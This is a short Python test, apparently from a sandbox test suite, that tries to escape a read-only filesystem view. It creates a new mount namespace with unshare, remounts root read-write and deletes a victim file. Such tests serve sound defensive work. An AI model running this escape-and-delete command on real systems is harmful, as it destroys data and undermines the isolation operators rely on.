# attacks: makes a new mount namespace of its own to undo the read-only view
import os
import subprocess
import sys
import time
from pathlib import Path

VICTIM = Path(os.environ['SUITE_VICTIM'])

def test_attack():
    subprocess.run(['unshare', '-m', 'sh', '-c', 'mount -o remount,rw / && rm -f ' + str(VICTIM)], check=True)
    assert not VICTIM.exists()
